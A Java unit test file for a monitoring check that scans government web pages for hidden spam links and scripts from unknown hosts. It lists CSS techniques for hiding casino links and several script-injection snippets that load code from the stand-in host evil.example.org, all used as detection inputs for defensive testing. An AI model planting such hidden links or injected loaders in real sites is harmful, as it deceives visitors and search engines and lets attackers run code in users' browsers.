package org.yunjian.monitoring.probe;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URI;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.yunjian.monitoring.CheckKind;
import org.yunjian.shared.Msg;

/** Hidden links and foreign scripts, read from pages that are never fetched (the addresses are only text). */
class HiddenLinkCheckTest {

    static final URI PAGE = URI.create("http://www.example.gov.cn/index.html");
    static final String SPAM = "http://casino.example.com/";

    private final HiddenLinkCheck check = new HiddenLinkCheck(List.of("example.gov.cn", "cdn.example.net"));

    /** A way of hiding a link: the page's style block and the body around the link {@code LINK}. */
    record Hiding(String name, String style, String body, Visibility.Reason reason) {
        @Override
        public String toString() {
            return name;
        }
    }

    static Stream<Hiding> hidings() {
        return Stream.of(
                new Hiding("inline display:none", "", "<a style='display: none' href='LINK'>赌场</a>", r("DISPLAY_NONE")),
                new Hiding(
                        "class rule", ".x{display:none!important}", "<a class=x href='LINK'>赌场</a>", r("DISPLAY_NONE")),
                new Hiding(
                        "hidden ancestor",
                        "#ads p { display:none }",
                        "<div id=ads><p><span><a href='LINK'>赌场</a></span></p></div>",
                        r("DISPLAY_NONE")),
                new Hiding(
                        "visibility",
                        "",
                        "<div style='visibility:hidden'><a href='LINK'>赌场</a></div>",
                        r("VISIBILITY_HIDDEN")),
                new Hiding(
                        "absolute far left",
                        "",
                        "<div style='position:absolute;left:-9999px'><a href='LINK'>赌场</a></div>",
                        r("OFF_SCREEN")),
                new Hiding(
                        "fixed far up by rule",
                        "div.f{position:fixed;top:-600px}",
                        "<div class=f><a href='LINK'>赌场</a></div>",
                        r("OFF_SCREEN")),
                new Hiding(
                        "zero box, overflow hidden",
                        "",
                        "<div style='height:0;overflow:hidden'><a href='LINK'>赌场</a></div>",
                        r("ZERO_SIZE")),
                new Hiding("zero-sized frame", "", "<iframe src='LINK' width=0 height=0></iframe>", r("ZERO_SIZE")),
                new Hiding("font size 0", "", "<p style='font-size:0'><a href='LINK'>赌场</a></p>", r("TINY_FONT")),
                new Hiding("font size 1px", "a.s{font-size:1px}", "<a class=s href='LINK'>赌场</a>", r("TINY_FONT")),
                new Hiding("opacity", "", "<span style='opacity:0'><a href='LINK'>赌场</a></span>", r("TRANSPARENT")),
                new Hiding(
                        "white on white",
                        "body{background:#fff url(bg.png) no-repeat}",
                        "<a style='color:rgb(255, 255, 255)' href='LINK'>赌场</a>",
                        r("SAME_COLOUR")),
                new Hiding(
                        "legacy font colour",
                        "",
                        "<table bgcolor=#FFFFFF><tr><td><font color='#ffffff'><a href='LINK'>赌场</a></font></td></tr></table>",
                        r("SAME_COLOUR")),
                new Hiding("hidden attribute", "", "<div hidden><a href='LINK'>赌场</a></div>", r("HIDDEN_ATTRIBUTE")));
    }

    private static Visibility.Reason r(String name) {
        return Visibility.Reason.valueOf(name);
    }

    private static String page(String style, String body) {
        return "<html><head><style>" + style + "</style></head><body><p>正文</p>" + body + "</body></html>";
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("hidings")
    void aLinkHiddenThisWayIsAHiddenLink(Hiding h) {
        List<Finding> findings = check.check(PAGE, page(h.style(), h.body().replace("LINK", SPAM)));
        assertThat(findings).singleElement().satisfies(f -> {
            assertThat(f.kind()).isEqualTo(CheckKind.HIDDEN_LINK);
            assertThat(f.subject()).isEqualTo(SPAM);
            assertThat(f.message())
                    .isEqualTo(Msg.of(
                            "monitoring.page.hidden.foreign",
                            URI.create(SPAM),
                            Msg.of(h.reason().key())));
            assertThat(f.detail()).isNotBlank();
        });
    }

    @Test
    void theDetailHasTheLinkTextAndTheEvidence() {
        Finding f = check.check(
                        PAGE,
                        page("#ads{display:none}", "<div id=ads class='a b'><a href='" + SPAM + "'>网上赌场</a></div>"))
                .get(0);
        assertThat(f.detail()).isEqualTo("网上赌场\n<div#ads.a.b> display:none");
    }

    static Stream<String> visibleLinks() {
        return Stream.of(
                "<a href='LINK'>友情链接</a>",
                "<div style='visibility:hidden'><a style='visibility:visible' href='LINK'>x</a></div>",
                "<p style='font-size:0'><a style='font-size:14px' href='LINK'>x</a></p>",
                "<p style='font-size:0'><a href='LINK'><img src=/banner.png></a></p>",
                "<a class=menu href='LINK'>x</a><style>a.menu:hover{display:none}</style>",
                "<a class=p href='LINK'>x</a><style>@media print { a.p { display:none } }</style>",
                "<div style='position:absolute;left:-20px'><a href='LINK'>x</a></div>",
                "<div style='width:0'><a href='LINK'>x</a></div>",
                "<body style='background:#fff'><a style='color:#ffe' href='LINK'>x</a></body>",
                "<iframe src='LINK' width=300 height=200></iframe>");
    }

    @ParameterizedTest
    @MethodSource("visibleLinks")
    void aVisibleLinkToAnotherDomainIsNotAnAlert(String body) {
        assertThat(check.check(PAGE, page("", body.replace("LINK", SPAM)))).isEmpty();
    }

    @Test
    void aHiddenLinkInsideTheAllowedDomainsIsReportedAsInternal() {
        String link = "http://news.example.gov.cn/a.html";
        assertThat(check.check(PAGE, page("", "<a style='display:none' href='" + link + "'>x</a>")))
                .extracting(Finding::message)
                .containsExactly(Msg.of(
                        "monitoring.page.hidden.internal",
                        URI.create(link),
                        Msg.of(Visibility.Reason.DISPLAY_NONE.key())));
    }

    @Test
    void aScriptFromAnUnknownHostIsMalicious() {
        String html = page(
                "",
                "<script src='http://evil.example.org/x.js'></script><script src='/js/own.js'></script>"
                        + "<script src='https://static.example.gov.cn/lib.js'></script>"
                        + "<script src='//cdn.example.net/jquery.js'></script>");
        assertThat(check.check(PAGE, html)).singleElement().satisfies(f -> {
            assertThat(f.kind()).isEqualTo(CheckKind.MALICIOUS_SCRIPT);
            assertThat(f.subject()).isEqualTo("http://evil.example.org/x.js");
            assertThat(f.message())
                    .isEqualTo(Msg.of(
                            "monitoring.page.script.foreign",
                            URI.create("http://evil.example.org/x.js"),
                            "evil.example.org"));
            assertThat(f.detail()).isEqualTo("<script src=\"http://evil.example.org/x.js\"></script>");
        });
    }

    static Stream<String> injectingScripts() {
        return Stream.of(
                "document.write('<scr'+'ipt src=\"http://evil.example.org/a.js\"></scr'+'ipt>');",
                "document.writeln(\"\\x3cscript type=text/javascript src=\\\"//evil.example.org/a.js\\\">\\x3c\\/script>\");",
                "document.body.innerHTML += '<iframe width=0 src=http://evil.example.org/a.js></iframe>';",
                "var s = document.createElement('script'); s.src = 'https://evil.example.org/a.js'; document.head.appendChild(s);",
                "var f = document.createElement(\"iframe\"); f.setAttribute('src', '//evil.example.org/a.js');");
    }

    @ParameterizedTest
    @MethodSource("injectingScripts")
    void anInlineScriptLoadingFromAnUnknownHostIsMalicious(String script) {
        List<Finding> findings = check.check(PAGE, page("", "<script>" + script + "</script>"));
        assertThat(findings).singleElement().satisfies(f -> {
            assertThat(f.kind()).isEqualTo(CheckKind.MALICIOUS_SCRIPT);
            assertThat(f.subject()).endsWith("//evil.example.org/a.js");
            assertThat(f.message().key()).isEqualTo("monitoring.page.script.injects");
            assertThat(f.detail()).contains("evil.example.org");
        });
    }

    @Test
    void inlineScriptsLoadingFromAllowedHostsOrSettingImagesAreNot() {
        String scripts = "<script>document.write('<script src=\"//www.example.gov.cn/a.js\"></scr'+'ipt>');"
                + "var i = new Image(); i.src = 'http://stats.example.com/p.gif';"
                + "var s = document.createElement('script'); s.src = 'https://cdn.example.net/b.js';</script>";
        assertThat(check.check(PAGE, page("", scripts))).isEmpty();
    }
}
